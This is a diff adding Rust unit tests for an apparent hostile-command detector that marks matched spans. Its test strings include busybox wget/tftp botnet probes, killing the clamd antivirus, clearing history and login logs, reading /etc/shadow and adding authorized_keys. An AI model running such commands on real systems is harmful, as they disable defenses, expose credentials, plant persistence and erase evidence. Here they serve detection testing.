@@ -90,6 +90,40 @@ fn what_the_limits_cut_off_is_said() {
     assert!(!cut("sudo sh -c 'wget http://192.0.2.1/x'"));
 }
 
+/// Nor what stands behind it, be it in the line or in the word that a match ends in.
+#[test]
+fn what_closes_something_around_a_match_is_not_shown() {
+    let probe = "/bin/busybox wget; /bin/busybox tftp; /bin/busybox MIRAI";
+    assert_eq!(shown("busybox_probe", probe), ["/bin/busybox wget", "/bin/busybox tftp"]);
+    for line in ["kill -9 $(pgrep -f clamd)", "kill -9 `pgrep -f clamd`", "kill -9 $(pgrep -f clamd;)"] {
+        assert_eq!(shown("security_tool_stopped", line), ["kill", "clamd"], "{line}");
+    }
+    assert_eq!(shown("history_cleared", "(history -c)"), ["history -c"]);
+    assert_eq!(shown("command_obfuscated", "w\\get http://198.51.100.7/x"), ["w\\get"]);
+    assert_eq!(shown("files_deleted", "rm a\\)"), ["rm a\\)"]);
+}
+
+#[test]
+fn a_quote_that_a_match_opens_is_closed() {
+    assert_eq!(shown("files_deleted", r#"rm -- "$0""#), [r#"rm -- "$0""#]);
+    assert_eq!(shown("files_deleted", "rm 'x'; id"), ["rm 'x'"]);
+    assert_eq!(shown("shadow_read", r#"sh -c "cat /etc/shadow""#), ["cat", "/etc/shadow"]);
+}
+
+/// A pattern may hold in many places of one command.
+#[test]
+fn every_place_is_shown() {
+    let logs = "rm -f /var/log/wtmp /tmp/x /var/log/btmp";
+    assert_eq!(shown("logs_cleared", logs), ["rm", "/var/log/wtmp", "/var/log/btmp"]);
+    let both = "cat /etc/shadow /etc/shadow-";
+    assert_eq!(shown("shadow_read", both), ["cat", "/etc/shadow", "/etc/shadow-"]);
+    let keys = "tee a/authorized_keys b/AUTHORIZED_KEYS; tee authorized_keys";
+    let all = ["tee", "a/authorized_keys", "b/AUTHORIZED_KEYS", "tee", "authorized_keys"];
+    assert_eq!(shown("authorized_key_added", keys), all);
+    let many = format!("cat {}", "/etc/shadow /tmp/x ".repeat(500));
+    assert_eq!(shown("shadow_read", &many).len(), MAX_SPANS);
+}
+
 /// Commands of a line are matched once and shown wherever they stand, up to the limit.
 #[test]
 fn a_command_that_comes_again_is_shown_again() {
